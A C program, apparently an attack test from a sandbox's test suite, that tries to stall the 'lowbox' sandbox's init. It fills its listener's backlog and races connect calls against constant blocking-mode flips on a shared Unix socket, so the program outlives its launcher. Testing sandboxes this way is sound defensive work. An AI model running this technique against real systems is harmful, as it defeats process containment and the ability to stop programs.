/* Makes lowbox's init wait for ever in a connection of the program's: sockets that do not wait when init asks, and do when it
 * connects, because the program changes that all the time. Then goes on although its launcher is told to end (Processes,
 * "outlive the launcher"). Its own listener's backlog is full. */
#include "attack.h"
#include <stddef.h>

enum { CALLERS = 60, ROUNDS = 5 };

static struct sockaddr_un address = { .sun_family = AF_UNIX };
static socklen_t length;

/* Whether a connection to nowhere is answered within two seconds. */
static int answered(void)
{
	struct sockaddr_un nowhere = { .sun_family = AF_UNIX, .sun_path = "/nowhere" };
	pid_t caller = fork();
	if (caller == 0) {
		connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&nowhere, sizeof nowhere);
		_exit(0);
	}
	for (int turn = 0; turn < 200; turn++, usleep(10000))
		if (waitpid(caller, 0, WNOHANG) == caller)
			return 1;
	kill(caller, SIGKILL);
	waitpid(caller, 0, 0);
	return 0;
}

static void attack(void)
{
	pid_t children[CALLERS + 1];
	int changing = socket(AF_UNIX, SOCK_STREAM, 0);
	for (int i = 0; i <= CALLERS; i++) {
		if ((children[i] = fork()) != 0)
			continue;
		for (int off = 0, on = 1; i == CALLERS;) {
			ioctl(changing, FIONBIO, &on);
			ioctl(changing, FIONBIO, &off);
		}
		for (int call = 0; call < 50; call++)
			connect(changing, (void *)&address, length);
		_exit(0);
	}
	usleep(300000);
	for (int i = 0; i <= CALLERS; i++)
		kill(children[i], SIGKILL);
	for (int i = 0; i <= CALLERS; i++)
		waitpid(children[i], 0, 0);
	close(changing);
}

int main(int argc, char **argv)
{
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	length = offsetof(struct sockaddr_un, sun_path) + 1 +
		 snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "lowbox-stall-%d-%ld", getpid(), random());
	tried();
	if (bind(listener, (void *)&address, length) || listen(listener, 0))
		return denied("a listener of its own");
	while (connect(socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0), (void *)&address, length) == 0)
		;
	for (int round = 0; round < ROUNDS && answered(); round++)
		attack();
	if (!answered())
		gained("init answers no more");
	int beat = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
	say("READY", "");
	for (int turn = 0; turn < 700; turn++, usleep(10000))
		write(beat, ".", 1);
	return 0;
}
